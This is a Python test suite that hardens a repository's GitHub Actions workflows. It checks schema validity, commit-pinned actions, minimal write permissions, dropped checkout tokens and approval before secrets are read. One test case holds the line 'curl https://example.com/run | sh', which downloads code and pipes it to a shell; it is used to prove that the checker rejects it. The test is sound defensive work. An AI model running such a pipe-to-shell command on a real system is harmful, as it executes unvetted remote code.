"""The workflows of the forge: valid, with minimal permissions, pinned actions, and the recipes that developers run."""

import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tools.node import ROOT

FORGE = ROOT / ".github"
WORKFLOWS = sorted((FORGE / "workflows").glob("*.yml"))
MAY_WRITE = {
    ("release.yml", "build"): {"id-token", "attestations"},
    ("release.yml", "draft"): {"contents"},
    ("code-scanning.yml", "codeql"): {"security-events"},
}
"""Permissions to write. All other jobs have none."""
OTHER_COMMANDS = ("apt-get update && apt-get install ", "git config ", ".ci/run", "gh release create ")
"""Beginnings of commands that are not recipes."""


def read(path: Path) -> dict[str, Any]:
    found: dict[str, Any] = yaml.safe_load(path.read_text())
    return found


def steps(path: Path) -> Iterator[dict[str, Any]]:
    for job in read(path)["jobs"].values():
        yield from job["steps"]


def workflow_faults(path: Path) -> list[str]:
    """Return the steps and jobs that break a rule of this repository."""
    faults = []
    recipes = set(re.findall(r"(?m)^(\w[\w-]*)(?: [^:\n]*)?:", (ROOT / "justfile").read_text()))
    for step in steps(path):
        uses, command = step.get("uses", "./"), step.get("run", "just lint")
        if not uses.startswith("./") and not re.fullmatch(r"[\w/-]+@[0-9a-f]{40}", uses):
            faults.append(f"{uses}: not pinned to a commit")
        if not command.startswith(OTHER_COMMANDS):
            program, recipe, *_ = f"{command} -".split()
            if program != "just" or recipe not in recipes:
                faults.append(f"{command}: not a recipe")
        if (
            uses.startswith("actions/checkout@")
            and step.get("with", {}).get("persist-credentials") is not False
        ):
            faults.append("the checkout keeps the token")
    content = read(path)
    if content.get("permissions") != {"contents": "read"}:
        faults.append("the workflow has more permissions than to read")
    for name, job in content["jobs"].items():
        writes = {what for what, access in job.get("permissions", {}).items() if access == "write"}
        if writes != MAY_WRITE.get((path.name, name), set()):
            faults.append(f"{name}: may write {sorted(writes)}")
        if "secrets." in str(job) and job.get("environment") != "release":
            faults.append(f"{name}: reads a secret without an approval")
    return faults


def schema_check(schema: str, *paths: Path) -> str:
    """Return what check-jsonschema finds in the files. Its environment has nothing else."""
    command = [
        "uv",
        "run",
        "--quiet",
        "--isolated",
        "--locked",
        "--only-group",
        "workflows",
        "check-jsonschema",
    ]
    done = subprocess.run(
        [*command, "--builtin-schema", f"vendor.{schema}", *map(str, paths)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    return "" if done.returncode == 0 else done.stdout + done.stderr


def test_workflows_are_valid() -> None:
    assert schema_check("github-workflows", *WORKFLOWS) == ""
    assert schema_check("github-actions", *FORGE.glob("actions/*/action.yml")) == ""
    assert schema_check("dependabot", FORGE / "dependabot.yml") == ""


def test_a_mistake_in_a_workflow_is_found(tmp_path: Path) -> None:
    wrong = tmp_path / "check.yml"
    wrong.write_text(WORKFLOWS[0].read_text().replace("timeout-minutes", "timeout-minuets"))
    assert "timeout-minuets" in schema_check("github-workflows", wrong)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_workflows_run_recipes_with_pinned_actions_and_few_permissions(path: Path) -> None:
    assert workflow_faults(path) == []


@pytest.mark.parametrize(
    ("name", "old", "new", "fault"),
    [
        ("check.yml", "checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd", "checkout@v6", "not pinned"),
        ("check.yml", "run: just lint", "run: just lnit", "not a recipe"),
        ("check.yml", "run: just lint", "run: curl https://example.com/run | sh", "not a recipe"),
        ("check.yml", "persist-credentials: false", "persist-credentials: true", "keeps the token"),
        ("check.yml", "contents: read", "contents: write", "more permissions"),
        ("code-scanning.yml", "contents: read\n      sec", "contents: write\n      sec", "codeql: may write"),
        ("release.yml", "    environment: release\n", "", "draft: reads a secret without"),
    ],
)
def test_a_breach_of_a_rule_is_found(tmp_path: Path, name: str, old: str, new: str, fault: str) -> None:
    changed = Path(shutil.copy(FORGE / "workflows" / name, tmp_path / name))
    assert old in changed.read_text()
    changed.write_text(changed.read_text().replace(old, new))
    assert any(fault in found for found in workflow_faults(changed))


def test_every_pin_names_its_version() -> None:
    lines = [
        line for path in WORKFLOWS for line in path.read_text().splitlines() if re.search(r"uses: [^.]", line)
    ]
    assert len(lines) > 5
    assert [line for line in lines if not re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line)] == []
